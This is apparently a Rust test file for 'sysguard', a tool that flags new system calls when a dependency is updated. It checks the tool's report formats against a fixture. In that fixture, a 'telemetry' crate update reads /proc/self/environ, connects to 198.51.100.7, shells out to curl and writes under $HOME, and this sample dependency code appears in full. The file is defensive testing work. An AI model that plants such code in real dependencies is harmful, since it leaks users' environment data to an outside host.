//! The example of the guide's page `first_review`: a new version of a dependency connects to
//! another machine, runs a shell with curl, reads its environment, and writes below the home
//! directory. Each format names the line that caused it.

use std::process::Command;

use libtest_mimic::Trial;
use serde_json::Value;

use super::project::{Project, Ran, networked, run};

/// Returns the trials.
pub(crate) fn trials() -> Vec<Trial> {
    trials![worked:
        networked failure_fits_on_one_screen,
        networked pull_request_formats_point_at_the_source_line,
        networked code_tools_point_at_the_source_line,
        networked cause_is_accepted_by_its_id,
    ]
}

/// The lines of a screen.
const SCREEN: usize = 50;

const MANIFEST: &str = "[package]\nname = \"greeter\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\n\
                        telemetry = \"1\"\n\n[workspace]\n";

const MAIN: &str = "fn main() {\n    telemetry::started(\"greeter\");\n    println!(\"hello\");\n}\n";

/// A registry in the package, so that nothing is downloaded.
const CONFIG: &str = "[source.crates-io]\nreplace-with = \"vendored\"\n\n[source.vendored]\ndirectory = \"vendor\"\n";

const OLD: &str = "pub fn started(_program: &str) {}\n";

/// The page shows this code.
const NEW: &str = r#"use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

pub fn started(program: &str) {
    let environment = std::fs::read("/proc/self/environ").unwrap_or_default();
    send(program, environment.len());
    let _ = Command::new("sh").args(["-c", "curl -s http://198.51.100.7/ -o /dev/null"]).status();
    remember(program);
}

#[inline(never)]
fn send(program: &str, size: usize) {
    if let Ok(mut stream) = TcpStream::connect("198.51.100.7:443") {
        let _ = writeln!(stream, "{program} {size}");
    }
}

#[inline(never)]
fn remember(program: &str) {
    let home = std::env::var("HOME").unwrap_or_default();
    let folder = format!("{home}/.config/telemetry");
    let _ = std::fs::create_dir_all(&folder);
    let _ = std::fs::write(format!("{folder}/id"), program);
}
"#;

/// Returns a package with a blessed baseline, and then a new version of its dependency.
fn bumped() -> Project {
    let project = Project::empty().file("Cargo.toml", MANIFEST).file("src/main.rs", MAIN);
    let project = project.file(".cargo/config.toml", CONFIG).file(".gitignore", "*.yaml.new\ntarget\n");
    let document = "# greets; must not use the network without a review\nversion: 2\nbin: greeter\n";
    let project = project.file("expectations/greeter.yaml", document);
    telemetry(&project, "1.4.0", OLD);
    run(&mut own_target(project.command("bless"), &project)).ends(0);
    run(project.run_by("git").args(["init", "--quiet"])).ends(0);
    project.commit();
    telemetry(&project, "1.5.0", NEW);
    project
}

/// Replaces the dependency, as `cargo update` does.
fn telemetry(project: &Project, version: &str, code: &str) {
    let manifest = format!("[package]\nname = \"telemetry\"\nversion = \"{version}\"\nedition = \"2024\"\n");
    project.write("vendor/telemetry/Cargo.toml", &manifest);
    project.write("vendor/telemetry/.cargo-checksum.json", "{\"files\":{}}");
    project.write("vendor/telemetry/src/lib.rs", code);
    run(project.run_by(env!("CARGO")).args(["update", "--quiet"])).ends(0);
}

/// The trials use the same package, so each project has a target directory of its own.
fn own_target(mut command: Command, project: &Project) -> Command {
    command.env("CARGO_TARGET_DIR", project.path("target"));
    command
}

/// Runs sysguard where the address belongs to the loopback interface, and no other network exists.
fn sysguard(project: &Project, line: &str, variables: &[(&str, &str)]) -> Ran {
    let mut command = own_target(project.command_with_address(line), project);
    run(command.envs(variables.iter().copied()))
}

/// Returns a text without what differs from run to run or from machine to machine: numbers of fds,
/// processes and bytes, and the number of findings.
fn normalised(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(|character: char| character.is_ascii_digit()) {
        let end = rest[start..].find(|character: char| !character.is_ascii_digit()).map_or(rest.len(), |at| start + at);
        let (before, after) = (rest[..start].chars().next_back(), rest[end..].chars().next());
        let stands_alone = before.is_some_and(|before| "([/ ".contains(before))
            && after.is_none_or(|after| "),<]/` \n".contains(after));
        out.push_str(&rest[..start]);
        if let Some(address) = rest[start..].strip_prefix("0x") {
            out.push_str("0xN");
            rest = address.trim_start_matches(|character: char| character.is_ascii_hexdigit());
            continue;
        }
        out.push_str(if stands_alone { "N" } else { &rest[start..end] });
        rest = &rest[end..];
    }
    out + rest
}

/// Returns the lines about the user's own code, and only the headings of other programs: what a
/// shell does depends on the machine.
fn own_lines(text: &str) -> String {
    let mut is_own = true;
    let mut lines = Vec::new();
    for line in text.lines() {
        let is_heading = line.starts_with('@');
        is_own = if is_heading { !line.contains("greeter → sh") } else { is_own || line.is_empty() };
        // The shell's and curl's part of the diff.
        if line.starts_with('+') && (line.contains("sockopt") || line.contains("SOL_")) {
            continue;
        }
        if is_own || is_heading || line.starts_with("  in: ") {
            let line = if line.starts_with('…') { line.split(" (").next().unwrap_or(line) } else { line };
            lines.push(line);
        }
    }
    normalised(&lines.join("\n"))
}

fn failure_fits_on_one_screen() {
    let project = bumped();
    let ran = sysguard(&project, "test", &[]).ends(101);
    let start = ran.stdout.find("greeter: ").expect("a failure");
    let whole = format!("{}{}", &ran.stdout[start..], ran.stderr.rsplit("Finished").next().unwrap_or_default());
    assert!(whole.lines().count() <= SCREEN, "{} lines:\n{whole}", whole.lines().count());
    let (message, _) = ran.stdout[start..].split_once("\n\n\nfailures:").expect("an end");
    let shown = own_lines(message);
    insta::assert_snapshot!(shown, @r#"
    greeter: N new subsystems, N new system calls, N new arguments, N new objects

    @31f81854 src/main.rs:2 greeter::main → telemetry 1.5.0 (1.4.0 when the baseline last
        changed): N new
      new-subsystem network
      new-syscall   network::connect        connect(N, 198.51.100.7:443) = -1 ECONNREFUSED
      new-argument  process::execve::sh,file
        execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) =…
      new-syscall   network::socket         socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
      new-syscall   filesystem::mkdir       mkdir("$HOME/.config/telemetry", N) = -1 ENOENT
      new-argument  filesystem::openat::O_WRONLY|O_CREAT,file
        openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N
      new-syscall   process::clone3         clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N
      and N more: process::openat, process::read, write file, signal::rt_sigprocmask
    @3813a02f greeter → sh → curl: N new
      in: greeter → sh -c … → curl -s http://198.51.100.7/ -o /dev/null
    @a1f47766 greeter → sh: N new
      in: greeter → sh -c …

    note: new, but of a known family: filesystem::statx beside newfstatat (family stat)

    --- expectations/greeter.yaml
    +++ expectations/greeter.yaml.new
    @@ … @@
    +  network:
    +    connect:
    +      - global socket:AF_INET:SOCK_STREAM
    … N more lines

    next:
      cargo sysguard review greeter    decide one by one
      cargo sysguard accept greeter    accept everything; writes expectations/greeter.yaml
      cargo sysguard accept @31f81854  accept one cause, in every workload
      cargo sysguard test greeter      run it again
    "#);
    let page = include_str!("../../../src/guide/first_review.md");
    let on_page: String =
        own_lines(page.split("```text\n").nth(1).and_then(|rest| rest.split("```").next()).expect("a text"));
    assert_eq!(on_page.trim_end(), shown.trim_end(), "src/guide/first_review.md shows this:\n{message}");
}

fn pull_request_formats_point_at_the_source_line() {
    let project = bumped();
    let written = |format: &str, variables: &[(&str, &str)]| {
        sysguard(&project, &format!("test --update no --format {format}"), variables).ends(101).stdout
    };
    let page = written("markdown", &[]);
    let sections: Vec<&str> = page.split("\n#### ").collect();
    insta::assert_snapshot!(normalised(sections[1].trim_end()), @r#"
    `src/main.rs:2 greeter::main → telemetry 1.5.0 (1.4.0 when the baseline last changed)`: N new

    in `greeter`; by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2`; `cargo sysguard accept @31f81854`

    | | finding | calls | |
    |---|---|---:|---|
    | new subsystem | `greeter::network` | N | `socket(AF_INET, SOCK_STREAM\|SOCK_CLOEXEC, IPPROTO_IP) = N` |
    | new system call | `greeter::network::connect` | N | `global socket:AF_INET:SOCK_STREAM`; `connect(N, 198.51.100.7:443) = -1 ECONNREFUSED` |
    | new argument | `greeter::process::execve::sh,file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N` |
    | new system call | `greeter::network::socket` | N | `AF_INET socket:AF_INET:SOCK_STREAM`; `socket(AF_INET, SOCK_STREAM\|SOCK_CLOEXEC, IPPROTO_IP) = N` |
    | new system call | `greeter::filesystem::mkdir` | N | `dir` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `mkdir("$HOME/.config/telemetry", N) = -1 ENOENT` |
    | new argument | `greeter::filesystem::openat::O_WRONLY\|O_CREAT,file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `openat("$HOME/.config/telemetry/id", O_WRONLY\|O_CREAT\|O_TRUNC\|O_CLOEXEC, N) = N` |
    | new system call | `greeter::process::clone3` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `clone3({CLONE_VM\|CLONE_VFORK\|SIGCHLD}, N) = N` |
    | new system call | `greeter::process::openat` | N | `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `openat("/proc/self/environ", O_RDONLY\|O_CLOEXEC) = N` |
    | new system call | `greeter::process::read` | N | `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `read(N</proc/N/environ>, [N bytes], N) = N` |
    | new object | `greeter::filesystem::write::object=file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `write(N<$HOME/.config/telemetry/id>, [N bytes]) = N` |
    | new system call | `greeter::signal::rt_sigprocmask` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `rt_sigprocmask(SIG_BLOCK, ~[], [], N) = N` |
    | note | `greeter::filesystem::statx` | N | beside newfstatat (family stat); `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `statx(N</proc/N/environ>, "", AT_EMPTY_PATH, STATX_BASIC_STATS\|STATX_BTIME, 0xN) = N` |
    "#);

    let summary = project.path("summary");
    let variables = [
        ("GITHUB_STEP_SUMMARY", summary.to_str().expect("UTF-8")),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("GITHUB_REPOSITORY", "me/greeter"),
        ("GITHUB_SHA", "0123abc"),
    ];
    let annotations = written("github", &variables);
    let first = annotations.lines().next().expect("an annotation");
    insta::assert_snapshot!(normalised(&first.replace("%0A", "\n")), @r#"
    ::error file=src/main.rs,line=2,title=sysguard%3A src/main.rs%3A2 greeter%3A%3Amain → telemetry 1.5.0 (1.4.0 when the baseline last changed)::11 new (network::connect, execve sh file, network::socket …)
    new-subsystem greeter::network: socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
    new-syscall greeter::network::connect: connect(N, 198.51.100.7:443) = -1 ECONNREFUSED
    new-argument greeter::process::execve::sh,file: execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N
    new-syscall greeter::network::socket: socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
    new-syscall greeter::filesystem::mkdir: mkdir("$HOME/.config/telemetry", N) = -1 ENOENT
    new-argument greeter::filesystem::openat::O_WRONLY|O_CREAT,file: openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N
    new-syscall greeter::process::clone3: clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N
    new-syscall greeter::process::openat: openat("/proc/self/environ", O_RDONLY|O_CLOEXEC) = N
    new-syscall greeter::process::read: read(N</proc/N/environ>, [N bytes], N) = N
    new-object greeter::filesystem::write::object=file: write(N<$HOME/.config/telemetry/id>, [N bytes]) = N
    … N more finding: see the summary
    in: greeter
    by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2
    next: cargo sysguard test, then cargo sysguard accept @31f81854
    "#);
    let link = "(https://github.com/me/greeter/blob/0123abc/src/main.rs#L2): ";
    assert!(project.read("summary").contains(link), "{}", project.read("summary"));
}

fn code_tools_point_at_the_source_line() {
    let project = bumped();
    let written =
        |format: &str| sysguard(&project, &format!("test --update no --format {format}"), &[]).ends(101).stdout;
    let log: Value = serde_json::from_str(&written("sarif")).expect("JSON");
    let results = log["runs"][0]["results"].as_array().expect("results");
    let connects = |result: &&Value| result["properties"]["key"] == "greeter::network::connect";
    let mut connect = results.iter().find(connects).expect("a result").clone();
    let text = connect["message"]["text"].as_str().map(normalised);
    connect["message"]["text"] = text.into();
    insta::assert_snapshot!(serde_json::to_string_pretty(&connect).expect("JSON"), @r#"
    {
      "level": "error",
      "locations": [
        {
          "physicalLocation": {
            "artifactLocation": {
              "uri": "src/main.rs",
              "uriBaseId": "%SRCROOT%"
            },
            "region": {
              "startLine": 2
            }
          }
        }
      ],
      "message": {
        "text": "new system call: greeter::network::connect (global socket:AF_INET:SOCK_STREAM, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): connect(N, 198.51.100.7:443) = -1 ECONNREFUSED in greeter"
      },
      "partialFingerprints": {
        "primaryLocationLineHash": "b3e170393bc11df2:1",
        "sysguard/key/v1": "greeter::network::connect"
      },
      "properties": {
        "group": "@31f81854",
        "key": "greeter::network::connect"
      },
      "relatedLocations": [
        {
          "id": 1,
          "message": {
            "text": "the baseline without it"
          },
          "physicalLocation": {
            "artifactLocation": {
              "uri": "expectations/greeter.yaml",
              "uriBaseId": "%SRCROOT%"
            },
            "region": {
              "snippet": {
                "text": "platform: x86_64-linux-gnu"
              },
              "startLine": 5
            }
          }
        }
      ],
      "ruleId": "sysguard/new-syscall",
      "ruleIndex": 5
    }
    "#);

    let violations: Vec<Value> = serde_json::from_str(&written("gitlab")).expect("JSON");
    let own = violations.iter().filter(|violation| violation["location"]["path"] == "src/main.rs");
    let lines = own.map(|violation| {
        let text = violation["description"].as_str().map(normalised).unwrap_or_default();
        format!("{} {}:{} {text}", violation["severity"], "src/main.rs", violation["location"]["lines"]["begin"])
    });
    insta::assert_snapshot!(lines.collect::<Vec<_>>().join("\n"), @r#"
    "critical" src/main.rs:2 new subsystem: greeter::network (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N in greeter
    "major" src/main.rs:2 new system call: greeter::network::connect (global socket:AF_INET:SOCK_STREAM, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): connect(N, 198.51.100.7:443) = -1 ECONNREFUSED in greeter
    "major" src/main.rs:2 new system call: greeter::network::socket (AF_INET socket:AF_INET:SOCK_STREAM, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N in greeter
    "major" src/main.rs:2 new system call: greeter::filesystem::mkdir (dir, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): mkdir("$HOME/.config/telemetry", N) = -1 ENOENT in greeter
    "major" src/main.rs:2 new system call: greeter::process::clone3 (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N in greeter
    "major" src/main.rs:2 new system call: greeter::process::openat (file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): openat("/proc/self/environ", O_RDONLY|O_CLOEXEC) = N in greeter
    "major" src/main.rs:2 new system call: greeter::process::read (file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): read(N</proc/N/environ>, [N bytes], N) = N in greeter
    "major" src/main.rs:2 new system call: greeter::signal::rt_sigprocmask (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): rt_sigprocmask(SIG_BLOCK, ~[], [], N) = N in greeter
    "minor" src/main.rs:2 new argument: greeter::process::execve::sh,file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N in greeter
    "minor" src/main.rs:2 new argument: greeter::filesystem::openat::O_WRONLY|O_CREAT,file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N in greeter
    "minor" src/main.rs:2 new object: greeter::filesystem::write::object=file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): write(N<$HOME/.config/telemetry/id>, [N bytes]) = N in greeter
    "info" src/main.rs:2 note: greeter::filesystem::statx (beside newfstatat (family stat), file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): statx(N</proc/N/environ>, "", AT_EMPTY_PATH, STATX_BASIC_STATS|STATX_BTIME, 0xN) = N in greeter
    "#);
}

fn cause_is_accepted_by_its_id() {
    let project = bumped();
    sysguard(&project, "test", &[]).ends(101);
    let pending: Value =
        serde_json::from_str(&project.sysguard("pending --format json").ends(101).stdout).expect("JSON");
    let groups = pending["groups"].as_array().expect("groups");
    let site = &groups[0]["site"];
    assert_eq!((&site["file"], &site["line"]), (&"src/main.rs".into(), &2.into()), "{site}");
    let id = groups[0]["id"].as_str().expect("an id");
    let wrong = project.sysguard("accept @00000000").ends(2);
    assert!(wrong.stderr.contains("no pending finding has the key `@00000000`"), "{}", wrong.stderr);
    project.sysguard(&format!("accept {id}")).ends(0);
    let file = project.read("expectations/greeter.yaml");
    assert!(file.contains("  network:\n    connect:\n") && !file.contains("credentials:"), "{file}");
    let left = project.sysguard("pending").ends(101).stdout;
    assert!(left.contains("greeter::credentials::getuid") && !left.contains("greeter::network::connect"), "{left}");
    project.sysguard("accept --all").ends(0);
    assert_eq!(project.sysguard("pending").ends(0).stdout, "");
    sysguard(&project, "test", &[]).ends(0);
}
